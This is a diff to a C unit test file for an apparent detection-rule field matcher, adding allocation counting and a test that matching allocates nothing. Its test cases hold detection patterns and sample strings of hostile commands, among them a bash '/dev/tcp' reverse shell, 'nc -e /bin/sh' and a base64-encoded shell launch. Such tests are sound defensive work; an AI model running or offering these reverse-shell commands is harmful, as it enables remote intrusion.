@@ -20,6 +20,68 @@
 #include <string.h>
 #include <time.h>
 
+/* Allocation counting for test_no_allocation_per_match: under ASan through
+ * its malloc hook, otherwise by interposing malloc, calloc and realloc of
+ * the whole program (libpcre2 included) over glibc's. */
+static volatile int counting;
+static volatile size_t allocations;
+#if defined(__SANITIZE_ADDRESS__)
+#define RP_TEST_ASAN 1
+#elif defined(__has_feature)
+#if __has_feature(address_sanitizer)
+#define RP_TEST_ASAN 1
+#endif
+#endif
+#ifdef RP_TEST_ASAN
+/* From the sanitizer runtime (sanitizer/allocator_interface.h, which gcc's
+ * packages do not ship). */
+int __sanitizer_install_malloc_and_free_hooks(void (*m)(const volatile void *, size_t),
+                                              void (*f)(const volatile void *));
+static void count_malloc(const volatile void *p, size_t n)
+{
+    (void)p;
+    (void)n;
+    if (counting)
+        allocations++;
+}
+static void count_free(const volatile void *p)
+{
+    (void)p;
+}
+static void counting_install(void)
+{
+    __sanitizer_install_malloc_and_free_hooks(count_malloc, count_free);
+}
+#else
+extern void *__libc_malloc(size_t n);
+extern void *__libc_calloc(size_t n, size_t size);
+extern void *__libc_realloc(void *p, size_t n);
+void *malloc(size_t n);
+void *calloc(size_t n, size_t size);
+void *realloc(void *p, size_t n);
+void *malloc(size_t n)
+{
+    if (counting)
+        allocations++;
+    return __libc_malloc(n);
+}
+void *calloc(size_t n, size_t size)
+{
+    if (counting)
+        allocations++;
+    return __libc_calloc(n, size);
+}
+void *realloc(void *p, size_t n)
+{
+    if (counting)
+        allocations++;
+    return __libc_realloc(p, n);
+}
+static void counting_install(void)
+{
+}
+#endif
+
 /* Compiles `Field|<mods>: <values...>` (strings) or fails the test. */
 static struct ds_field *field_v(const char *mods, const char *const *vals, size_t n)
 {
@@ -675,6 +737,58 @@ static void test_modifier_errors(void **state)
     assert_null(f);
 }
 
+/* The hot path: once compiled (and after one warm-up match, in which
+ * PCRE2's interpreter may size its frame vector), matching allocates
+ * nothing, whatever the modifier. */
+static void test_no_allocation_per_match(void **state)
+{
+    (void)state;
+    struct {
+        const char *mods, *value, *text;
+    } cases[] = {
+        {"", "cmd.exe", "CMD.EXE"},
+        {"contains", "bash -i", "/bin/bash -i >& /dev/tcp/x/1"},
+        {"", "*/bin/?ash*-c*", "/usr/bin/bash -x -c y"},
+        {"windash|contains", " -exec ", "find . /exec sh"},
+        {"base64offset|contains", "/bin/bash", "ZWNobzsvYmluL2Jhc2ggLWk="},
+        {"re", "^(a+)+$", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!"},
+        {"re|i", "nc\\s+-e", "x; NC  -e /bin/sh"},
+        {"cidr", "fe80::/10", "fe80::1"},
+        {"gte", "1024", "65535"},
+    };
+    enum { N = sizeof cases / sizeof cases[0] };
+    struct ds_field *f[2 * N];
+    for (size_t i = 0; i < N; i++) {
+        f[i] = field1(cases[i].mods, cases[i].value);
+        /* The same again with the regex interpreter instead of the JIT. */
+        uint32_t bits;
+        assert_int_equal(ds_mod_parse(cases[i].mods, strlen(cases[i].mods), &bits, NULL, 0), 0);
+        struct ds_value v = {DS_VAL_STRING, cases[i].value, strlen(cases[i].value)};
+        struct ds_match_opts o = {.re_no_jit = true};
+        assert_int_equal(ds_field_compile(bits, &v, 1, &o, &f[N + i], NULL, 0), 0);
+    }
+    const char *ref[1] = {"cmd.exe"};
+    size_t rlen[1] = {7};
+    struct ds_field *fr = field1("fieldref|endswith", "process.name");
+    for (size_t i = 0; i < 2 * N; i++)
+        (void)ds_field_match(f[i], cases[i % N].text, strlen(cases[i % N].text));
+    counting_install();
+    size_t hits = 0;
+    counting = 1;
+    for (int round = 0; round < 50; round++) {
+        for (size_t i = 0; i < 2 * N; i++)
+            hits += ds_field_match(f[i], cases[i % N].text, strlen(cases[i % N].text));
+        hits += ds_field_match_ref(fr, "c:\\cmd.exe", 10, ref, rlen);
+    }
+    counting = 0;
+    assert_int_equal(allocations, 0);
+    /* Every case but the catastrophic regex matches (twice: JIT and not). */
+    assert_int_equal(hits, 50 * (2 * (N - 1) + 1));
+    for (size_t i = 0; i < 2 * N; i++)
+        ds_field_destroy(f[i]);
+    ds_field_destroy(fr);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -695,6 +809,7 @@ int main(void)
         cmocka_unit_test(test_expand),
         cmocka_unit_test(test_literals),
         cmocka_unit_test(test_modifier_errors),
+        cmocka_unit_test(test_no_allocation_per_match),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
